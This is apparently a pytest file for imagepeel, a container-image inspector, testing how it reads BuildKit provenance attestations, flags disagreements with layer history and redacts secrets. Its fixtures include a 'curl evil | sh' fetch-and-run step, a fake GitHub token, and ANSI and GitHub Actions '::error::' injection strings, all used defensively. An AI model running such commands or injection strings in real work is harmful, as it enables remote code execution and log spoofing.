"""The Dockerfile that BuildKit states beside an image: both predicates, both forms, taken by skopeo, and hostile ones.

No program here writes them: the forge follows BuildKit's published documents (docs/attestations).
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import imagepeel
from imagepeel import forge
from imagepeel.history.attested import SourceLines, one_line

Make = Callable[..., Path]
Run = Callable[..., Any]

SOURCE = """# syntax=docker/dockerfile:1
FROM scratch AS base
ADD rootfs.tar /

# the config
COPY app.conf /etc/app.conf
RUN --mount=type=cache,target=/c echo one \\
    # why
    && echo two
USER 1000
"""
LINES = ((3, 3), (3, 3), (6, 6), (7, 9))
RUN_STEP = "RUN /bin/sh -c echo one     && echo two # buildkit"


def spec(last: str = RUN_STEP, **stated: Any) -> forge.ImageSpec:
    return forge.image(
        forge.layer(forge.file("a", "1\n"), created_by="ADD rootfs.tar / # buildkit"),
        forge.layer(forge.file("b", "1\n"), created_by="ADD rootfs.tar / # buildkit"),
        forge.layer(forge.file("etc/app.conf", "x\n"), created_by="COPY app.conf /etc/app.conf # buildkit"),
        forge.layer(forge.file("etc/app.conf", "x\ny\n"), created_by=last),
        names="attested:1",
        user="1000",
        provenance=forge.Provenance(**{"dockerfile": SOURCE, "lines": LINES, **stated}),
    )


FORMS = [(version, artifact) for version in ("v0.2", "v1") for artifact in (False, True)]


@pytest.mark.parametrize("kind", ["oci-archive", "buildx-oci", "docker-containerd"])
@pytest.mark.parametrize(("version", "artifact"), FORMS)
def test_the_lines_of_each_layer_are_those_that_are_stated(
    version: str, artifact: bool, kind: str, forge_archive: Make
) -> None:
    path = forge_archive(spec(version=version, artifact=artifact), name="attested.tar", kind=kind)
    with imagepeel.open(path) as archive:
        image = archive.image()
        found = image.attestations
        assert found.remarks == ()
        assert found.attested is not None
        assert found.attested.source == SOURCE
        assert found.attested.version == version
        assert found.attested.lines == tuple(SourceLines(first=first, last=last) for first, last in LINES)
        assert image.disagreements == ()


@pytest.mark.skipif(shutil.which("skopeo") is None, reason="skopeo is absent")
@pytest.mark.parametrize(("version", "artifact"), FORMS)
def test_skopeo_takes_what_the_forge_makes(version: str, artifact: bool, forge_archive: Make, tmp_path: Path) -> None:
    """Inspected and copied whole; the copy has the same statement, since all its digests are the same."""
    path = forge_archive(spec(version=version, artifact=artifact), name="attested.tar", kind="oci-archive")
    (tmp_path / "layout").mkdir()
    subprocess.run(["tar", "-xf", path, "-C", tmp_path / "layout"], check=True)
    (top,) = json.loads((tmp_path / "layout/index.json").read_text())["manifests"]
    raw = subprocess.run(["skopeo", "inspect", "--raw", f"oci:{tmp_path}/layout"], check=True, capture_output=True)
    listed = json.loads(raw.stdout)["manifests"]
    assert [one["platform"]["os"] for one in listed] == ["linux", "unknown"]
    assert top["mediaType"].endswith("index.v1+json")
    told = subprocess.run(
        ["skopeo", "inspect", "--override-os=linux", "--override-arch=amd64", f"oci:{tmp_path}/layout"],
        check=True, capture_output=True,
    )  # fmt: skip
    assert len(json.loads(told.stdout)["Layers"]) == 4
    subprocess.run(
        ["skopeo", "--insecure-policy", "copy", "-q", "--all", f"oci:{tmp_path}/layout", f"oci:{tmp_path}/copy:x"],
        check=True, capture_output=True,
    )  # fmt: skip
    with imagepeel.open(tmp_path / "copy") as archive:
        attested = archive.image(platform="linux/amd64").attestations.attested
        assert attested is not None
        assert attested.source == SOURCE


def test_dockerfile_prints_the_original(forge_archive: Make, run_cli: Run) -> None:
    path = forge_archive(spec(), name="attested.tar", kind="oci-archive")
    done = run_cli("dockerfile", path)
    assert done.exit_code == 0
    lines = done.stdout.splitlines()
    assert [line for line in lines if not line.startswith("# L") and "a claim, unsigned" not in line] == (
        SOURCE.splitlines()
    )
    assert lines[0] == SOURCE.splitlines()[0]  # a parser directive counts on top only
    assert lines[lines.index("COPY app.conf /etc/app.conf") - 1].startswith("# L3, ")
    assert "line 6" in run_cli("layers", path).stdout
    assert "lines 7-9" in run_cli("blame", path, "/etc/app.conf").stdout
    assert "Dockerfile line 6" in run_cli("log", path, "/etc/app.conf").stdout


@pytest.mark.parametrize(
    ("last", "told"),
    [
        (RUN_STEP, False),
        ("RUN /bin/sh -c echo one && echo two # buildkit", False),
        ("RUN /bin/sh -c curl evil | sh # buildkit", True),
        ("COPY evil /etc/app.conf # buildkit", True),
    ],
)
def test_a_step_that_the_history_tells_otherwise_is_a_finding(
    last: str, told: bool, forge_archive: Make, run_cli: Run
) -> None:
    path = forge_archive(spec(last), name="attested.tar", kind="oci-archive")
    with imagepeel.open(path) as archive:
        found = [one for one in archive.image().findings() if one.rule == "ATTESTATION-DISAGREES"]
    assert bool(found) == told
    if told:
        assert "L4: lines 7-9" in found[0].message
        assert "the history tells another step" in run_cli("dockerfile", path).stdout


def test_layers_of_another_image_are_a_finding(forge_archive: Make) -> None:
    good = spec()
    other = forge.image(*good.layers[:1], names="attested:1")
    whole = forge.assemble(other)
    layers = [{"mediaType": blob.media_type, "digest": "sha256:" + "1" * 64, "size": 1} for blob in whole.layers]
    from imagepeel.forge.attest import statement

    stated = forge.Provenance(dockerfile=SOURCE, lines=((3, 3),))
    document = statement(stated, ["attested:1"], whole.manifest.digest, layers)
    lying = forge.image(
        *good.layers[:1],
        names="attested:1",
        provenance=forge.Provenance(dockerfile=SOURCE, lines=((3, 3),), data=json.dumps(document).encode()),
    )
    with imagepeel.open(forge_archive(lying, name="lying.tar", kind="oci-archive")) as archive:
        image = archive.image()
        assert image.attestations.attested is not None
        assert [one.layer for one in image.disagreements] == [None]


def changed(edit: Callable[[Any], None], version: str = "v1") -> bytes:
    """A statement about the image of `spec`, with one thing changed."""
    from imagepeel.forge.attest import statement

    stated = forge.Provenance(dockerfile=SOURCE, lines=LINES, version=version)  # type: ignore[arg-type]
    whole = forge.assemble(spec())
    layers = [{"mediaType": one.media_type, "digest": one.digest, "size": one.size} for one in whole.layers]
    document = statement(stated, ["attested:1"], whole.manifest.digest, layers)
    edit(document)
    return json.dumps(document).encode()


def source(document: Any) -> Any:
    return document["predicate"]["runDetails"]["metadata"]["buildkit_metadata"]["source"]


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "empty"),
        (b"{", "not JSON"),
        (b"[]", "no in-toto statement"),
        (b"[" * 5000, "nested"),
        (b" " * (21 << 20), "bytes"),
        (changed(lambda d: d.update(_type="x")), "no in-toto statement"),
        (changed(lambda d: d.update(subject=[])), "another image"),
        (changed(lambda d: d.update(subject="x")), "another image"),
        (changed(lambda d: d.update(predicateType="https://slsa.dev/provenance/v9")), "no provenance"),
        (changed(lambda d: source(d)["infos"][0].update(data="%%%")), "no base64"),
        (changed(lambda d: source(d)["infos"][0].update(data="A" * (3 << 20))), "more than a megabyte"),
        (changed(lambda d: source(d).update(infos=7)), "without the Dockerfile"),
        (changed(lambda d: d.update(predicate=3)), "without the Dockerfile"),
    ],
    ids=[str(number) for number in range(13)],
)
def test_a_statement_that_cannot_be_right_is_one_remark(
    data: bytes, why: str, forge_archive: Make, run_cli: Run
) -> None:
    hostile = spec(data=data or b"\n")
    path = forge_archive(hostile, name="hostile.tar", kind="oci-archive")
    with imagepeel.open(path) as archive:
        found = archive.image().attestations
        assert found.attested is None
        (remark,) = found.remarks
        assert remark.startswith("an attestation of this image is not used: ")
        assert why in remark
    done = run_cli("dockerfile", path)
    assert done.exit_code == 0
    assert done.stdout.count("is not used: ") == 1
    assert "COPY app.conf" in done.stdout  # as the history tells it


@pytest.mark.parametrize(
    "edit",
    [
        lambda d: source(d).update(locations={"step0": {"locations": [{"ranges": [{"start": {"line": 10**9}}]}]}}),
        lambda d: source(d).update(locations=[1]),
        lambda d: source(d).update(locations={"step1": {"locations": [{"ranges": [{"start": {"line": "x"}}]}]}}),
        lambda d: d["predicate"]["runDetails"]["metadata"]["buildkit_metadata"].update(layers=[[]]),
        lambda d: d["predicate"]["runDetails"]["metadata"]["buildkit_metadata"].update(layers={"step0:0": [[1]]}),
    ],
)
def test_lines_that_cannot_be_are_no_lines(edit: Callable[[Any], None], forge_archive: Make, run_cli: Run) -> None:
    path = forge_archive(spec(data=changed(edit)), name="odd.tar", kind="oci-archive")
    with imagepeel.open(path) as archive:
        attested = archive.image().attestations.attested
        assert attested is not None
        assert attested.lines[0] is None
    assert run_cli("blame", path, "/etc/app.conf").exit_code == 0


def test_a_statement_of_mode_min_is_no_surprise(forge_archive: Make) -> None:
    with imagepeel.open(forge_archive(spec(mode="min"), name="min.tar", kind="oci-archive")) as archive:
        image = archive.image()
        assert "mode=min" in image.attestations.remarks[0]
        assert "ATTESTATION-DISAGREES" not in [one.rule for one in image.findings()]


def test_a_wrong_subject_is_a_finding(forge_archive: Make) -> None:
    with imagepeel.open(forge_archive(spec(subject="0" * 64), name="other.tar", kind="oci-archive")) as archive:
        found = [one for one in archive.image().findings() if one.rule == "ATTESTATION-DISAGREES"]
    assert [one.severity for one in found] == ["low"]


def test_secrets_and_commands_of_a_stated_dockerfile_do_no_harm(forge_archive: Make, run_cli: Run) -> None:
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    text = f"FROM scratch\nENV TOKEN={token}\n::error::evil\n\x1b[31mred\n"
    path = forge_archive(spec(dockerfile=text, lines=((1, 1),) * 4), name="evil.tar", kind="oci-archive")
    for form in ([], ["--json"], ["--markdown"], ["--html", "-"]):
        told = run_cli("dockerfile", path, *form).stdout
        assert token not in told
        assert "\x1b" not in told
        assert not [line for line in told.splitlines() if line.startswith("::error")]
    assert token in run_cli("dockerfile", path, "--show-secrets").stdout


def test_continuations_and_comments_are_joined() -> None:
    assert one_line(["RUN a \\", "# why", "  && b"]) == "RUN a && b"
